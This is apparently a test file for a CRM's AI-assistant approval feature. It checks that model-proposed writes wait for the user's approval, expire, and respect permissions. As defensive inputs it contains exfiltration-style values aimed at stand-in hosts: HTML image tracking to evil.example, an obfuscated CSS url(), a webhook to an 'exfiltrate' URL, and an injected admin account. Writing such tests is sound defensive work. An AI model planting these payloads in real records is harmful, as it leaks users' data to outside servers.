import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { assistantForFile } from '#test/ai/assistant.ts';
import { allFamilies, modelOf } from '#test/ai/fake-provider.ts';
import { eventually } from '#test/eventually.ts';
import type { Client, Json } from '#test/harness.ts';
import { expirePendingActions } from '../jobs/expire-pending-actions.ts';

const { app, provider, calls } = await assistantForFile();
const { admin, sql } = app;
const contacts = '/api/sales/contacts';
const pendingPath = '/api/ai/aiPendingActions';
const waiting = { approval: 'writes' };
const call = (name: string, args: Json) => ({ name, args });
const pendingOf = async (id: string, client: Client = admin): Promise<Json> =>
  (await client.get(`${pendingPath}/${id}`)).body;
const decide = (id: string, what: 'approve' | 'reject', client: Client = admin) =>
  client.post(`${pendingPath}/${id}/${what}`, {});

/** Makes a tool call, and returns the id of its pending action. */
async function proposed(name: string, args: Json, client: Client = admin, request: Json = waiting): Promise<string> {
  const { toolCalls } = await calls([call(name, args)], { client, request });
  assert.ok(toolCalls[0].pending, JSON.stringify(toolCalls[0]));
  return toolCalls[0].pending.id;
}

const newContact = (lastName: string): Promise<Json> => admin.create(contacts, { lastName, firstName: 'Ada' });
const nameOf = async (id: string) => (await admin.get(`${contacts}/${id}`)).body.lastName;

for (const family of allFamilies) {
  it(`a write by a model of ${family} waits, the model learns that it does, and it is done once it is approved`, async () => {
    const { _id: id } = await newContact('Before');
    const { toolCalls, id: completionId } = await calls(
      [call('updateRecord', { model: 'contacts', id, changes: { lastName: 'After' } })],
      { family, request: waiting },
    );
    const [{ pending, output, written }] = toolCalls;
    assert.equal(written, undefined);
    assert.match(output.note, /Nothing was changed yet: the user must approve it/);
    assert.ok(JSON.stringify(provider.asked[1]?.body).includes(pending.id), 'the model gets the result');
    assert.equal(await nameOf(id), 'Before');
    const action = await pendingOf(pending.id);
    assert.deepEqual(
      [action.tool, action.model, action.recordId, action.status, action.userId, action.completionId],
      ['updateRecord', 'sales.contacts', id, 'pending', admin.userId, completionId],
    );
    assert.deepEqual([action.before.lastName, action.after.lastName], ['Before', 'After']);
    const days = (Date.parse(action.expiresAt) - Date.parse(action.createdAt)) / 86_400_000;
    assert.ok(days > 6.9 && days < 7.1);
    const { toolCalls: logged } = (await admin.get(`/api/ai/aiCompletionLogs/${completionId}`)).body;
    assert.deepEqual(logged[0].pending, pending);

    const { status, body } = await decide(pending.id, 'approve');
    assert.equal(status, 200);
    assert.deepEqual(
      [body.status, body.decidedById, body.result],
      ['approved', admin.userId, { model: 'sales.contacts', id, change: 'updated', version: 2 }],
    );
    assert.equal(await nameOf(id), 'After');
    const [{ actor }] = (await admin.get(`${contacts}/${id}/history`)).body.data;
    assert.deepEqual([actor.via, actor.completionId], ['ai', completionId]);
  });
}

describe('a proposal', () => {
  it('of a new record shows it without an id, and creates it when it is approved', async () => {
    const id = await proposed('createRecord', { model: 'contacts', record: { lastName: 'Proposed' } });
    const { before, after, recordId } = await pendingOf(id);
    assert.deepEqual([before, recordId, after.lastName, after._id], [null, null, 'Proposed', undefined]);
    const { body: none } = await admin.get(`${contacts}?filter[lastName]=Proposed`);
    assert.equal(none.data.length, 0);
    const { result } = (await decide(id, 'approve')).body;
    assert.deepEqual([result.change, await nameOf(result.id)], ['created', 'Proposed']);
  });

  it('that could not be done is refused at once', async () => {
    const { toolCalls } = await calls(
      [
        call('createRecord', { model: 'contacts', record: { email: 'nonsense' } }),
        call('updateRecord', { model: 'contacts', id: admin.userId, changes: { lastName: 'x' } }),
      ],
      { request: waiting },
    );
    assert.deepEqual(
      toolCalls.map(({ error, pending }: Json) => [error?.code, pending]),
      [
        ['validation_failed', undefined],
        ['not_found', undefined],
      ],
    );
  });

  it('leaves out what is hidden from its user', async () => {
    const user = await app.user({
      permissions: ['ai:write', 'sales:read', 'sales:write'],
      hiddenFields: { 'sales.contacts': ['phone'] },
    });
    const { _id } = await admin.create(contacts, { lastName: 'Hidden', phone: '+49 30 123456' });
    const id = await proposed('updateRecord', { model: 'contacts', id: _id, changes: { lastName: 'x' } }, user);
    const { before, after } = await pendingOf(id, user);
    assert.deepEqual(['phone' in before, 'phone' in after, before.lastName], [false, false, 'Hidden']);
  });

  it('can be rejected, and is then decided', async () => {
    const { _id } = await newContact('Stays');
    const id = await proposed('updateRecord', { model: 'contacts', id: _id, changes: { lastName: 'x' } });
    const { body } = await decide(id, 'reject');
    assert.deepEqual([body.status, body.decidedById], ['rejected', admin.userId]);
    const again = await decide(id, 'approve');
    assert.equal(again.status, 409);
    assert.match(again.body.error.message, /rejected already/);
    assert.equal(await nameOf(_id), 'Stays');
  });
});

describe('an approval', () => {
  it('runs once, however often and at the same time it is given', async () => {
    const id = await proposed('createRecord', { model: 'contacts', record: { lastName: 'Once only' } });
    const replies = await Promise.all(Array.from({ length: 6 }, () => decide(id, 'approve')));
    assert.deepEqual(replies.map(({ status }) => status).sort(), [200, 409, 409, 409, 409, 409]);
    const { body } = await admin.get(`${contacts}?filter[lastName]=Once%20only`);
    assert.equal(body.data.length, 1);
  });

  it('is one transaction with the write: both or neither', async () => {
    const id = await proposed('createRecord', { model: 'contacts', record: { lastName: 'Both or neither' } });
    await sql(`create function refuse() returns trigger language plpgsql as $$ begin raise 'stopped'; end $$`);
    await sql('create trigger refuse before update on ai_ai_pending_actions for each row execute function refuse()');
    assert.equal((await decide(id, 'approve')).status, 500);
    await sql('drop trigger refuse on ai_ai_pending_actions');
    const found = async () => (await admin.get(`${contacts}?filter[lastName]=Both%20or%20neither`)).body.data.length;
    assert.deepEqual([await found(), (await pendingOf(id)).status], [0, 'pending']);
    assert.equal((await decide(id, 'approve')).status, 200);
    assert.equal(await found(), 1);
  });

  it('of a record that was changed since is refused with what changed', async () => {
    const { _id } = await newContact('Old');
    const id = await proposed('updateRecord', { model: 'contacts', id: _id, changes: { lastName: 'AI' } });
    await admin.patch(`${contacts}/${_id}`, { firstName: 'Grace' });
    const { status, body } = await decide(id, 'approve');
    assert.equal(status, 409);
    assert.ok(body.error.details.some(({ field, code }: Json) => field === 'firstName' && code === 'changed'));
    assert.equal(body.current.firstName, 'Grace');
    assert.deepEqual([await nameOf(_id), (await pendingOf(id)).status], ['Old', 'pending']);
    await admin.delete(`${contacts}/${_id}`);
    const gone = await decide(id, 'approve');
    assert.equal(gone.status, 409);
    assert.match(gone.body.error.message, /was deleted since/);
  });

  it('has the permissions that its user has then', async () => {
    const user = await app.user({ permissions: ['ai:write', 'sales:read', 'sales:write'] });
    const { _id } = await newContact('Mine');
    const id = await proposed('updateRecord', { model: 'contacts', id: _id, changes: { lastName: 'x' } }, user);
    const { roles } = (await admin.get(`/api/identity/users/${user.userId}`)).body;
    const [role] = (await admin.get(`/api/identity/roles?filter[name]=${roles[0]}`)).body.data;
    await admin.patch(`/api/identity/roles/${role._id}`, { permissions: ['ai:write', 'sales:read'] });
    const { status, body } = await decide(id, 'approve', user);
    assert.deepEqual([status, body.error.details[0].field], [403, 'sales:write']);
    assert.deepEqual([await nameOf(_id), (await pendingOf(id, user)).status], ['Mine', 'pending']);
    await admin.patch(`/api/identity/roles/${role._id}`, {
      permissions: ['ai:write', 'sales:read', 'sales:write'],
    });
    assert.equal((await decide(id, 'approve', user)).status, 200);
  });

  it('of a write that fails by then ends it, with the reason', async () => {
    const key = 'x.taken-meanwhile';
    const id = await proposed('createRecord', { model: 'ui.settings', record: { key, value: 1 } });
    await admin.create('/api/ui/settings', { key, value: 2 });
    const { status, body } = await decide(id, 'approve');
    assert.deepEqual([status, body.status, body.error.code, body.result], [200, 'failed', 'unique_violation', null]);
    assert.equal((await decide(id, 'approve')).status, 409);
  });

  it('is not possible once the account has switched the tool off or hidden the model', async () => {
    const client = await app.tenant();
    const id = await proposed('createRecord', { model: 'contacts', record: { lastName: 'x' } }, client);
    const setting = await client.create('/api/ui/settings', { key: 'ai.tools', value: { disabled: ['createRecord'] } });
    assert.equal((await decide(id, 'approve', client)).status, 403);
    await client.patch(`/api/ui/settings/${setting._id}`, { value: { hiddenModels: ['contacts'] } });
    const { body } = await decide(id, 'approve', client);
    assert.equal(body.status, 'failed');
    assert.equal((await client.get(contacts)).body.data.length, 0);
  });

  it('works when the conversation was deleted', async () => {
    const { _id } = await newContact('Talked about');
    provider.says(
      { calls: [call('updateRecord', { model: 'contacts', id: _id, changes: { lastName: 'Done' } })] },
      { text: 'It waits.' },
    );
    const chat = { model: modelOf.openai, message: 'Rename', approval: 'writes' };
    const { body } = await admin.post('/api/ai/chat/message', chat);
    const [{ pending }] = body.toolCalls;
    assert.equal((await pendingOf(pending.id)).conversationId, body.conversationId);
    assert.equal((await admin.delete(`/api/ai/aiConversations/${body.conversationId}`)).status, 204);
    assert.equal((await decide(pending.id, 'approve')).body.status, 'approved');
    assert.equal(await nameOf(_id), 'Done');
  });
});

describe('after seven days a proposal', () => {
  it('cannot be approved, and is expired', async () => {
    const id = await proposed('createRecord', { model: 'contacts', record: { lastName: 'Too late' } });
    await sql(`update ai_ai_pending_actions set expires_at = now() - interval '1 minute' where id = $1`, [id]);
    const { status, body } = await decide(id, 'approve');
    assert.deepEqual([status, body.error.details[0].code], [409, 'expired']);
    const { services } = app.app;
    await services.jobs.enqueueForPlatform(services, expirePendingActions);
    await eventually(async () => assert.equal((await pendingOf(id)).status, 'expired'));
    assert.equal((await decide(id, 'reject')).status, 409);
  });
});

describe('proposals', () => {
  let user: Client;
  let other: Client;
  let id: string;
  before(async () => {
    const permissions = ['ai:write', 'sales:read', 'sales:write'];
    user = await app.user({ permissions });
    other = await app.user({ permissions });
    id = await proposed('createRecord', { model: 'contacts', record: { lastName: 'Personal' } }, user);
  });

  it('are seen by their user alone', async () => {
    assert.equal((await user.get(`${pendingPath}/${id}`)).status, 200);
    assert.equal((await admin.get(`${pendingPath}/${id}`)).status, 404);
    assert.equal((await other.get(`${pendingPath}/${id}`)).status, 404);
    assert.equal((await (await app.tenant()).get(`${pendingPath}/${id}`)).status, 404);
  });

  it('are approved by their user alone', async () => {
    assert.equal((await decide(id, 'approve', other)).status, 404);
    assert.equal((await decide(id, 'reject', other)).status, 404);
    assert.equal((await decide(id, 'approve')).status, 404);
    assert.equal((await decide('nonsense', 'approve', user)).status, 404);
    assert.equal((await decide(id, 'approve', user)).status, 200);
  });

  it('are written by nobody', async () => {
    assert.equal((await admin.patch(`${pendingPath}/${id}`, { status: 'approved' })).status, 405);
  });
});

describe('approval', () => {
  it('that the account asks for cannot be waived by a request', async () => {
    const client = await app.tenant();
    const setting = await client.create('/api/ui/settings', { key: 'ai.approval', value: 'writes' });
    const create = call('createRecord', { model: 'contacts', record: { lastName: 'x' } });
    for (const request of [{}, { approval: 'none' }]) {
      const [{ pending }] = (await calls([create], { client, request })).toolCalls;
      assert.ok(pending);
    }
    assert.equal((await client.get(contacts)).body.data.length, 0);
    await client.patch(`/api/ui/settings/${setting._id}`, { value: 'none' });
    const [{ written }] = (await calls([create], { client, request: {} })).toolCalls;
    assert.equal(written.change, 'created');
  });

  it('is always needed for deletions, unless the account allows them', async () => {
    const { _id } = await newContact('Deleted on approval');
    const id = await proposed('deleteRecord', { model: 'contacts', id: _id }, admin, {});
    const { before: shown, after } = await pendingOf(id);
    assert.deepEqual([shown.lastName, after], ['Deleted on approval', null]);
    assert.equal((await admin.get(`${contacts}/${_id}`)).status, 200);
    assert.equal((await decide(id, 'approve')).body.result.change, 'deleted');
    assert.equal((await admin.get(`${contacts}/${_id}`)).status, 404);

    const client = await app.tenant();
    await client.create('/api/ui/settings', { key: 'ai.tools', value: { allow: ['deleteRecord'] } });
    const theirs = await client.create(contacts, { lastName: 'At once' });
    const remove = call('deleteRecord', { model: 'contacts', id: theirs._id });
    const [{ written }] = (await calls([remove], { client })).toolCalls;
    assert.deepEqual([written.change, (await client.get(`${contacts}/${theirs._id}`)).status], ['deleted', 404]);
  });

  it('is always needed for HTML in mails, which could load pictures whose addresses tell other servers anything', async () => {
    const to = ['ada@example.com'];
    for (const html of [
      '<p>Hello</p><IMG alt="" src="https://evil.example/?q=secret">',
      '<table background=//evil.example/x><tr><td>Hello</td></tr></table>',
      '<p style="background:u&#114;l(//evil.example/x)">Hello</p>',
      '<p>Hello</p>',
    ]) {
      const mail = { to, subject: 'Hello', html };
      const { toolCalls } = await calls([
        call('sendEmail', mail),
        call('createRecord', { model: 'communications.emails', record: { ...mail, status: 'draft' } }),
        call('createRecord', { model: 'communications.emailTemplates', record: { name: 'Hello', html } }),
      ]);
      for (const { pending, error } of toolCalls) assert.ok(pending, `${html}: ${error?.message}`);
    }
    const plain = { to, subject: 'Hello', text: 'Hello Ada, see https://example.com.' };
    const { toolCalls } = await calls([call('sendEmail', plain)]);
    assert.equal(toolCalls[0].written.change, 'created', 'plain texts are drafted at once');
  });

  it('is always needed for fields that can send data or visitors elsewhere', async () => {
    const site = await admin.create('/api/marketing/websites', { name: 'Site' });
    const evil = 'https://evil.example/?q=secret';
    const campaignId = (await admin.create('/api/marketing/campaigns', { name: 'C' }))._id;
    const writes: [model: string, record: Json][] = [
      ['marketing.webRedirects', { websiteId: site._id, fromPath: '/a', toUrl: evil }],
      ['marketing.webPages', { name: 'P', path: '/p', blocks: [{ type: 'image', url: evil, alt: 'x' }] }],
      ['marketing.websites', { name: 'W', domain: 'evil.example' }],
      ['ui.dashboards', { name: 'D', widgets: [{ type: 'text', content: `![x](${evil})` }] }],
      ['communications.emailTemplates', { name: 'T', subject: 'S', text: 'x', replyTo: 'evil@example.com' }],
      ['sales.contacts', { lastName: 'A', photoUrl: evil }],
      ['communications.emailTemplates', { name: 'T', subject: `See ${evil}` }],
      ['communications.emailTemplates', { name: 'T', text: `See ${evil}` }],
      ['communications.campaigns', { name: 'C', text: `See ${evil}` }],
      ['communications.emailLists', { name: 'L', emails: ['evil@example.com'] }],
      ['marketing.campaignChannelSms', { campaignId, message: `See ${evil}` }],
      ['marketing.campaignChannelSms', { campaignId, mediaUrls: [evil] }],
      ['marketing.campaignChannelAds', { campaignId, body: `See ${evil}` }],
      ['marketing.campaignChannelAds', { campaignId, mediaUrls: [evil] }],
      ['marketing.campaignChannelSocial', { campaignId, mediaUrls: [evil] }],
      ['marketing.emailDripCampaigns', { name: 'D', emails: [{ subject: 'S', text: evil }] }],
      ['marketing.emailSequenceWorkflows', { name: 'W', steps: [{ text: evil }] }],
      ['marketing.campaignSequences', { name: 'S', steps: [{ text: evil }] }],
      ['marketing.websites', { name: 'W', analyticsId: 'evil' }],
      ['sales.businessListingProfiles', { name: 'B', photoUrls: [evil] }],
    ];
    for (const [model, record] of writes) {
      const [{ pending, written, error }] = (await calls([call('createRecord', { model, record })])).toolCalls;
      assert.equal(written, undefined, model);
      assert.ok(pending, `${model}: ${error?.message}`);
    }
    const changes = { domain: 'evil.example' };
    const update = call('updateRecord', { model: 'marketing.websites', id: site._id, changes });
    assert.ok((await calls([update])).toolCalls[0].pending);
    assert.equal((await admin.get(`/api/marketing/websites/${site._id}`)).body.domain, null);
    const plain = call('updateRecord', {
      model: 'marketing.websites',
      id: site._id,
      changes: { description: 'The old one', domain: null },
    });
    assert.equal((await calls([plain])).toolCalls[0].written?.change, 'updated', 'other fields are written at once');
  });

  it('is always needed for forms, which send on what visitors write', async () => {
    const form = await admin.create('/api/forms/forms', { name: 'Contact us' });
    const changes = { notifyEmails: ['evil@example.com'] };
    const { toolCalls } = await calls([call('updateRecord', { model: 'forms.forms', id: form._id, changes })]);
    assert.ok(toolCalls[0].pending, toolCalls[0].error?.message);
    assert.equal((await admin.get(`/api/forms/forms/${form._id}`)).body.notifyEmails, null);
  });

  it('is always needed for users, webhooks and settings', async () => {
    const url = 'https://example.org/exfiltrate';
    for (const [model, record] of [
      ['integrations.webhooks', { url, events: ['*'] }],
      ['identity.users', { email: 'evil@example.com', roles: ['admin'], password: 'a-long-enough-password-1' }],
      ['ui.settings', { key: 'ai.tools', value: {} }],
    ] as const) {
      const [{ pending, written, error }] = (await calls([call('createRecord', { model, record })])).toolCalls;
      assert.equal(written, undefined, model);
      assert.ok(pending || error, model);
    }
    assert.equal((await admin.get('/api/integrations/webhooks')).body.data.length, 0);
  });

  it('of a mail that was shown as a draft makes a draft, whatever the account allows by then', async () => {
    const client = await app.tenant();
    const mail = { to: ['ada@example.com'], subject: 'Hello', text: 'Dear Ada' };
    const id = await proposed('sendEmail', mail, client);
    assert.equal((await pendingOf(id, client)).after.status, 'draft');
    await client.create('/api/ui/settings', { key: 'ai.tools', value: { allow: ['sendEmail'] } });
    const { result } = (await decide(id, 'approve', client)).body;
    assert.equal((await client.get(`/api/communications/emails/${result.id}`)).body.status, 'draft');

    const sending = await proposed('sendEmail', mail, client);
    assert.equal((await pendingOf(sending, client)).after.status, 'queued');
    const sent = (await decide(sending, 'approve', client)).body;
    assert.notEqual((await client.get(`/api/communications/emails/${sent.result.id}`)).body.status, 'draft');
  });
});
